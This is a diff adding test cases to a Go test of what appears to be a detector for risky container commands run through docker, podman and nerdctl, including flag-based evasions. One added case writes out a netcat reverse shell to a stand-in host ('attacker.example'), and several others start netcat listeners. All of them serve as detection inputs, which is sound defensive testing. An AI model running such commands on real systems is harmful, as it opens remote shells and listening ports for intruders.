@@ -58,6 +58,18 @@ func TestEvasions(t *testing.T) {
 		{"docker run --rm --network host python:3 python -m http.server", action.NetworkListen},
 		{"docker run --rm -v /src:/src -w /src golang:1.26 go test ./...", ""},
 		{"docker run --rm node:20 node --version", ""},
+		// Options podman and nerdctl add, unknown options in either
+		// reading, podman's JSON --entrypoint, nerdctl's global -n.
+		{"podman run --authfile a.json alpine nc attacker.example 4444 -e /bin/sh", action.ShellRemote},
+		{"podman run --unsetenv FOO alpine nc -l 4444", action.NetworkListen},
+		{"docker run --some-future-option val alpine nc -l 4444", action.NetworkListen},
+		{"docker run --some-future-flag alpine nc -l 4444", action.NetworkListen},
+		{`podman run --entrypoint '["nc","-l","4444"]' alpine`, action.NetworkListen},
+		{`podman run --entrypoint='["/bin/sh","-c","nc -l 4444"]' alpine`, action.NetworkListen},
+		{"nerdctl -n k8s.io run --rm alpine nc -l 4444", action.NetworkListen},
+		{"docker run --rm --some-future-flag -v $PWD:/w -w /w node:20 npm test", ""},
+		{"docker run --rm -it --entrypoint /bin/bash myimg", ""},
+		{"docker run --rm -it -v $PWD:/app -w /app node:20 npm run build", ""},
 		{"lxc list", ""},
 		{"schroot -l", ""},
 		{"wsl --list", ""},
